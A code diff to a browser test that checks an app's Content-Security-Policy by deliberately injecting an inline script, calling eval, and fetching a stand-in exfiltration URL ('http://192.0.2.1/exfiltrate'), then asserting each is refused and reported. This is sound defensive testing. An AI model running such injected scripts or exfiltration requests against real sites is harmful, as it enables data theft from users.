@@ -143,15 +143,22 @@ test('no network at run time: the Content-Security-Policy refuses eval and every
     assert.match(csp, /script-src 'self' 'wasm-unsafe-eval'/);
     assert.doesNotMatch(csp, /'unsafe-eval'|'unsafe-inline'|https?:|\*/);
     // The app itself started under it (the runner fails a test on any violation); now
-    // provoke two on purpose.
+    // provoke three on purpose, from the page's own tasks (code DevTools runs directly is
+    // exempt from the policy).
     const r = await page.evaluate(async () => {
+      const s = document.createElement('script');
+      s.textContent = 'window.__inlineRan = true';
+      document.head.appendChild(s);
       let evalRefused = false;
-      try { (0, eval)('1 + 1'); } catch (e) { evalRefused = e instanceof EvalError; }
+      await new Promise((done) => setTimeout(() => {
+        try { (0, eval)('1 + 1'); } catch (e) { evalRefused = e instanceof EvalError; }
+        done();
+      }, 0));
       let fetchRefused = false;
       try { await fetch('http://192.0.2.1/exfiltrate'); } catch (e) { fetchRefused = true; }
-      return { evalRefused, fetchRefused };
+      return { inlineRefused: window.__inlineRan !== true, evalRefused, fetchRefused };
     });
-    assert.deepEqual(r, { evalRefused: true, fetchRefused: true });
+    assert.deepEqual(r, { inlineRefused: true, evalRefused: true, fetchRefused: true });
     assert.ok(violations.some((v) => v.startsWith('CSP:')), 'the refusals were reported as violations');
     violations.length = 0; // provoked above: not the app's doing
   } finally {
